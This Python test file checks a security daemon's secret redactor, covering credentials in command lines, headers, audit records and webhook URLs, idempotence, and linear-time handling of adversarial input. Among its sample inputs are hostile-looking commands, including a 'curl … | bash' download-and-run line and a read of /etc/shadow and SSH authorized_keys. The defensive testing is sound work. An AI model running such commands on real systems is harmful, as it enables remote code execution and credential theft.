"""No secret leaves; nothing else is lost."""

import json
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec import structs

from daemon.enrichment import redact
from daemon.enrichment.redact import Redactor
from daemon.model import Value
from tests.doubles.told_incidents import anomaly, event

REDACTOR = Redactor()
AWS = "AKIA" + "IOSFODNN7EXAMPLE"
GITHUB = "ghp_" + "a1B2" * 9

SECRET_TEXTS = [
    (f"aws configure set aws_access_key_id {AWS}", AWS),
    ("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPx", "wJalrXUtnFEMI"),
    ("AWS_SECRET_ACCESS_KEY='a b c'", "a b c"),
    ("git clone https://bob:hunter2@git.example/x", "hunter2"),
    ("git clone https://bob:p@ss@git.example/x", "p@ss"),
    (f"git clone https://{GITHUB}@git.example/x", GITHUB),
    ("psql postgres://app:pw1@db.example/app", "pw1"),
    ("login password=hunter2 ok", "hunter2"),
    ("login passwd: hunter2", "hunter2"),
    ('{"password": "hun ter2", "user": "bob"}', "hun ter2"),
    ('{\\"api_key\\": \\"hun ter2\\"}', "hun ter2"),
    ("export DB_PASSWORD=hunter2; ls", "hunter2"),
    ("tool --password hunter2 --verbose", "hunter2"),
    ("tool --password=hunter2", "hunter2"),
    ("tool --client-secret 'hun ter2'", "hun ter2"),
    ("tool -password hunter2", "hunter2"),
    ('a0="tool" a1="--password" a2="hun ter2" a3="-v"', "hun ter2"),
    ("a1=--password a2=hunter2", "hunter2"),
    ("a0=tool a1=--token a2=" + b"hun ter2".hex().upper(), b"hun ter2".hex().upper()),
    ("mysql -uroot -phunter2 -e x", "hunter2"),
    ("mysqldump -u root -phunter2 db", "hunter2"),
    ("/usr/bin/mariadb -phunter2", "hunter2"),
    ("sudo mysqladmin -phunter2 ping", "hunter2"),
    ("sshpass -p hunter2 ssh root@h", "hunter2"),
    ("sshpass -phunter2 ssh root@h", "hunter2"),
    ("curl -u bob:hunter2 http://x.example", "hunter2"),
    ("curl -ubob:hunter2 http://x.example", "hunter2"),
    ("curl --user bob:hunter2 http://x.example", "hunter2"),
    ("curl --proxy-user=bob:hunter2 http://x.example", "hunter2"),
    ('curl -H "Authorization: Basic Ym9iOmh1bnRlcjI=" x', "Ym9iOmh1bnRlcjI="),
    ("curl -H Authorization: Bearer abc.def-123 x", "abc.def-123"),
    ("X-Api-Key: hunter2", "hunter2"),
    ("Cookie: sid=hunter2; theme=x", "hunter2"),
    ("PGPASSWORD=hunter2 psql", "hunter2"),
    ("MYSQL_PWD=hunter2 mysql", "hunter2"),
    ("SSHPASS=hunter2 sshpass -e ssh h", "hunter2"),
    ("redis-cli -a hunter2 ping", "hunter2"),
    ("htpasswd -b /etc/x bob hunter2", "hunter2"),
    ("htpasswd -nbB bob hunter2", "hunter2"),
    ("openssl passwd -1 -salt xy hunter2", "hunter2"),
    ("openssl rsa -passin pass:hunter2", "hunter2"),
    ("openssl enc -k hunter2 -in f", "hunter2"),
    ("echo hunter2 | sudo -S id", "hunter2"),
    ("echo 'hunter2' | sudo -kS id", "hunter2"),
    ("echo bob:hunter2 | chpasswd", "hunter2"),
    ('echo "bob:hunter2" | sudo chpasswd', "hunter2"),
    ("echo hunter2 | passwd --stdin bob", "hunter2"),
    ("chpasswd <<< bob:hunter2", "hunter2"),
    ('sh -c "mysql -phunter2 x"', "hunter2"),
    ("smbclient -U bob%hunter2 //h/s", "hunter2"),
    ("docker login -u bob -p hunter2 reg.example", "hunter2"),
    ("ALTER USER x IDENTIFIED BY 'hunter2'", "hunter2"),
    ("<password>hunter2</password>", "hunter2"),
    ("usermod -p $6$salt$abcdefghijklmnopqrstuv bob", "abcdefghijklmnopqrstuv"),
    ("glpat-" + "a1B2c3D4e5F6g7H8i9J0", "a1B2c3D4"),
    ("xoxb-" + "1234567890-abcdefghij", "abcdefghij"),
    ("sk_live_" + "abcdefghijklmnop1234", "abcdefghijklmnop"),
    ("https://hooks.slack.com/services/T0/B0/" + "X" * 24, "X" * 24),
    ("https://discord.com/api/webhooks/123456/abcDEF-ghi", "abcDEF-ghi"),
    ("https://acme.webhook.office.com/webhookb2/abcDEF", "abcDEF"),
    ("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\nabc\n-----END RSA PRIVATE KEY-----", "MIIEow"),
    ("-----BEGIN PRIVATE KEY-----\\nMIIEowIBAAKCAQEAabc", "MIIEow"),
    ("curl -su bob:hunter2 http://x.example", "hunter2"),
    ("curl -Lsku bob:hunter2 http://x.example", "hunter2"),
    ("curl -b session=hunter2 http://x.example", "hunter2"),
    ("curl --cookie 'session=hunter2; a=hunter2' x", "hunter2"),
    ("GET https://files.example/a?sv=1&sig=hunter2hunter2", "hunter2hunter2"),
    ("aws configure set aws_secret_access_key hunter2", "hunter2"),
    ("sqlcmd -S db -P hunter2", "hunter2"),
    ("sqlplus scott/hunter2@db", "hunter2"),
    ("psexec.py dom/user:hunter2@192.0.2.1", "hunter2"),
    ("etcdctl --user root:hunter2 get x", "hunter2"),
    ("rabbitmqctl add_user a hunter2", "hunter2"),
    ("az login -u a -p hunter2", "hunter2"),
    ("twine upload -u a -p hunter2 dist/x", "hunter2"),
    ("ssh-keygen -t rsa -N hunter2 -f k", "hunter2"),
    ("snmpwalk -v2c -c hunter2 h", "hunter2"),
    ("lftp -u user,hunter2 ftp.example", "hunter2"),
    ("expect -c 'spawn su; send \"hunter2\\r\"'", "hunter2"),
    ("POST /login user%3Da%26password%3Dhunter2", "hunter2"),
    ('a0="curl" a1="-su" a2="bob:hunter2" a3="x"', "hunter2"),
    ("type=EXECVE a2=" + b"mysql -phunter2 x".hex().upper(), b"hunter2".hex().upper()),
    ("proctitle=" + b"mysql\0-phunter2\0x".hex().upper(), b"hunter2".hex().upper()),
]

PLAIN_TEXTS = [
    "Failed password for root from 203.0.113.9 port 22 ssh2",
    "Failed password for invalid user admin from 203.0.113.9 port 1 ssh2",
    "alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/ls",
    "pam_unix(passwd:chauthtok): password changed for alice",
    "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9 user=root",
    "auditctl -w /etc/passwd -p wa -k passwd_changes",
    "cat /etc/passwd /etc/shadow /root/.ssh/authorized_keys",
    "/etc/passwd:root:x:0:0",
    'grep -r "-----BEGIN RSA PRIVATE KEY-----" /etc',
    "mysql -u root -p",
    "mkdir -p /tmp/x && ssh -p 2222 h && docker run -p 80:80 nginx",
    "curl -fsSL http://203.0.113.7/x.sh | bash",
    "curl -sS -o u:x http://192.0.2.1/x?page=12345678&sort=name",
    "curl -sSfL -b jar.txt -c jar.txt http://192.0.2.1/",
    "tar -c -f x.tar a/b; ssh -p 22 h; mkdir -p a/b:c; docker run -p 80:80 nginx",
    'ssh-keygen -t ed25519 -N "" -f k',
    "az webapp create -p plan; rabbitmqctl list_users; aws configure set region eu",
    "python3 /opt/services.py localhost:80; sqlplus /nolog",
    "postfix: send attempt to a:b failed; sender=x",
    "password=$DB_PASSWORD token=${TOKEN}",
    "basic authentication failed; bearer of news",
    "glibc-common-2.34-60.el9.x86_64 installed",
    "sha256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    'type=SYSCALL msg=audit(1795260000.100:9000): arch=c000003e syscall=59 a0=55d0c0ffee00 key="susp_exec"',
    "http://[2001:db8::1]:8080/a@b",
    "",
]


@pytest.mark.parametrize(("text", "secret"), SECRET_TEXTS)
def test_a_secret_goes_and_is_marked(text: str, secret: str) -> None:
    redacted = REDACTOR.text(text)
    assert secret not in redacted
    assert "[redacted:" in redacted


@pytest.mark.parametrize("text", PLAIN_TEXTS)
def test_text_without_secrets_is_unchanged(text: str) -> None:
    assert REDACTOR.text(text) == text


@pytest.mark.parametrize("text", [text for text, _ in SECRET_TEXTS])
def test_redacting_twice_changes_nothing(text: str) -> None:
    once = REDACTOR.text(text)
    assert REDACTOR.text(once) == once


def test_enough_stays_to_understand_what_was_done() -> None:
    assert REDACTOR.text('mysql -uroot -pS3c -e "select 1"') == 'mysql -uroot -p[redacted:password] -e "select 1"'
    assert REDACTOR.text("curl https://bob:x1@h.example/p") == "curl https://bob:[redacted:password]@h.example/p"
    assert REDACTOR.text("a=1,password=y,host=z") == "a=1,password=[redacted:password],host=z"


def test_the_shared_vectors_hold(shared_data: Path) -> None:
    rows = [json.loads(line) for line in (shared_data / "vectors" / "redaction.jsonl").read_text().splitlines()]
    assert rows
    for row in rows:
        redacted = REDACTOR.text("".join(row["parts"]))
        assert not [part for part in row["must_not_contain"] if part in redacted], row["kind"]


def test_a_secret_split_over_arguments_leaves_every_place_it_stands_in() -> None:
    secret = "S3 cr;et|Pw"
    split = event(
        a0="tool", a1="--password", a2=secret, a3="-v", CommandLine=f"tool --password {secret} -v", Image="/bin/tool"
    )
    split = type(split)(
        split.id, split.at, split.host, split.source, split.logsource, split.fields, f"run tool --password {secret} -v"
    )
    redacted = REDACTOR.anomaly(anomaly(split, because=f"a2 is “{secret}”"))
    told = repr(redacted)
    assert secret not in told
    assert "et|Pw" not in told
    fields = redacted.events[0].fields
    assert fields["a1"] == "--password"
    assert fields["a3"] == "-v"
    assert fields["Image"] == "/bin/tool"
    assert fields["User"] == "www-data"


def test_fields_named_after_secrets_and_tuples_are_redacted() -> None:
    named: dict[str, Value] = {
        "db.password": "hunter2",
        "args": ("x", "token=abc123"),
        "pid": 7,
        "ok": True,
        "gone": None,
    }
    plain_event = event()
    told = structs.replace(plain_event, fields=named)
    fields = REDACTOR.anomaly(anomaly(told)).events[0].fields
    assert fields["db.password"] == "[redacted:password]"
    assert fields["args"] == ("x", "token=[redacted:password]")
    assert (fields["pid"], fields["ok"], fields["gone"]) == (7, True, None)


def test_an_anomaly_without_secrets_is_equal_to_what_it_was() -> None:
    told = anomaly(event(1), event(2))
    assert REDACTOR.anomaly(told) == told


def test_configured_patterns_are_added_and_idempotent() -> None:
    redactor = Redactor([r"EMP-\d+", r"redacted"])
    once = redactor.text("EMP-4711 redacted password=x1")
    assert once == "[redacted:custom] [redacted:custom] password=[redacted:password]"
    assert redactor.text(once) == once


@pytest.mark.parametrize("pattern", ["(", "a*", "", "(?<=a)b", "\\", "[z-a]"])
def test_a_bad_pattern_is_named_at_construction(pattern: str) -> None:
    with pytest.raises(ValueError, match="expected an"):
        Redactor([pattern])


@given(st.text(st.characters(exclude_categories=[])))
def test_any_text_is_accepted_and_redaction_settles(text: str) -> None:
    once = REDACTOR.text(text)
    assert REDACTOR.text(once) == once


PARTS = st.sampled_from(
    [*(text for text, _ in SECRET_TEXTS), *PLAIN_TEXTS, '"', "'", "|", ";", " ", "=", "-p", "a1=", "\udc80"]
)


@given(st.lists(PARTS, max_size=5))
def test_mixed_texts_neither_raise_nor_lose_their_marks(parts: list[str]) -> None:
    text = " ".join(parts)
    once = REDACTOR.text(text)
    assert ("[redacted:" in once) or once == text


@pytest.mark.parametrize(
    "hostile",
    [
        '"\\"' * 20_000,
        '" \\" ' * 12_000,
        "password=" * 7_000,
        "mysql -p" * 8_000,
        "htpasswd -b " * 5_000,
        "-----BEGIN PRIVATE KEY-----\nAAAAAAAAAAAAAAAAAAAA " * 1_200,
        "A" * 65_536,
        "echo a | passwd | " * 3_000,
        "' \" " * 16_000,
        "a://b:" * 10_000,
    ],
)
def test_hostile_text_costs_linear_time(hostile: str) -> None:
    began = time.process_time()
    REDACTOR.text(hostile)
    assert time.process_time() - began < 3, "a quadratic scan takes minutes here"


def test_no_word_of_an_anomaly_keeps_a_secret() -> None:
    said = "login with password=hunter2hunter2 seen"
    posted = structs.replace(
        anomaly(structs.replace(event(), host=said, source=said, text=said, fields={"a": said, said: 1}), because=said),
        host=said,
        source=said,
        entity=said,
    )
    posted = structs.replace(posted, rule=structs.replace(posted.rule, title=said))
    redacted = REDACTOR.anomaly(posted)
    assert "hunter2" not in repr(redacted)
    assert redacted.rule.title == redacted.host == redacted.source == "login with password=[redacted:password] seen"
    assert redacted.rule.id == posted.rule.id


def test_what_stands_alone_in_an_argument_is_known_in_every_word_of_the_anomaly() -> None:
    told = anomaly(event(a0="curl", a1="-su", a2="bob:hunter2hunter2"), because="argument hunter2hunter2")
    told = structs.replace(told, host="h-hunter2hunter2", rule=structs.replace(told.rule, title="saw hunter2hunter2"))
    assert "hunter2" not in repr(REDACTOR.anomaly(told))


def test_an_anomaly_without_secrets_keeps_its_very_rule() -> None:
    told = anomaly(event())
    assert REDACTOR.anomaly(told).rule is told.rule


def test_an_event_that_several_anomalies_show_is_cleaned_for_each_as_if_alone() -> None:
    """What is remembered of it depends on what the other events of the anomaly say is secret, and is bounded."""
    shared = event(CommandLine="cat hunter2x")
    telling = event(1, a0="mysql", a1="--password", a2="hunter2x")
    one = Redactor()
    for number in range(200):
        events = (shared, telling) if number % 2 else (shared,)
        found = one.anomaly(structs.replace(anomaly(), events=events))
        assert found == Redactor().anomaly(structs.replace(anomaly(), events=events))
        assert ("hunter2x" in str(found.events[0].fields)) is (number % 2 == 0)
        one.anomaly(structs.replace(anomaly(), events=(event(number),)))
    assert len(one._known_events) <= 64


def test_what_is_remembered_of_names_is_bounded() -> None:
    for number in range(3000):
        name = f"n{number}.password"
        told = structs.replace(event(), fields={name: "hunter2x", "p" * 70 + name: "hunter2x"})
        assert "hunter2x" not in REDACTOR.event(told).fields.values()
    assert redact._is_known_name.cache_info().currsize <= 1024
